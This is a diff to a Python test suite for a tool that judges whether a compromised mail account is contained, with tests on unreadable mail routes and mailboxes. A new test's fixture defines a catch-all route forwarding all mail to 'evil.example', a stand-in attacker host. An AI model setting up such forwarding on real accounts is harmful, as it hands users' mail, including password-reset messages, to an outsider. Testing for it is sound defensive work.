@@ -122,7 +122,7 @@ def test_what_could_not_be_read_is_no_all_clear() -> None:
         assert f"{name}: not readable, 403" in said.words
 
 
-@pytest.mark.parametrize("mailbox", ["ada@mg.acme.example", "ada@elsewhere.example"])
+@pytest.mark.parametrize("mailbox", ["ada@mg.acme.example", "ada@elsewhere.example", ""])
 def test_routes_nobody_could_read_may_copy_the_mail_with_which_a_password_is_set(mailbox: str) -> None:
     def seen(**more: Any) -> Containment:
         found = _over()
@@ -137,7 +137,7 @@ def test_routes_nobody_could_read_may_copy_the_mail_with_which_a_password_is_set
             found.state.attestations.append(Attestation("6", "ada", iso(NOW), "looked in the panel"))
         return containment(found)
 
-    received = mailbox.endswith("@mg.acme.example")
+    received = not mailbox.endswith("@elsewhere.example")  # A mailbox nobody could read may be there too.
     assert seen().contained
     for unread in ({"gap": Gap("routes", US, "500")}, {"unasked": True}):
         assert seen(**unread).contained is not received, unread
@@ -165,6 +165,17 @@ def test_a_route_to_nobody_knows_where_is_not_known_to_be_shut(odd: dict[str, An
     said = containment(found)
     assert said.contained is not open_
     assert ("to where could not be read" in said.words) is open_
+
+
+def test_a_route_to_a_strange_host_may_take_the_mail_of_a_mailbox_nobody_could_read() -> None:
+    found = _over()
+    found.inventory.users = {"u1": UserItem(User(id="u1", role="admin", is_master=True), US)}
+    found.inventory.read_at["routes"] = NOW
+    found.inventory.routes = {
+        "r1": Route(id="r1", expression="catch_all()", actions=('forward("https://evil.example/in")',))
+    }
+    said = containment(found)
+    assert not said.contained and [way.known for way in said.ways if way.kind == "route"] == [False]
 
 
 def test_what_was_never_asked_is_no_all_clear() -> None:
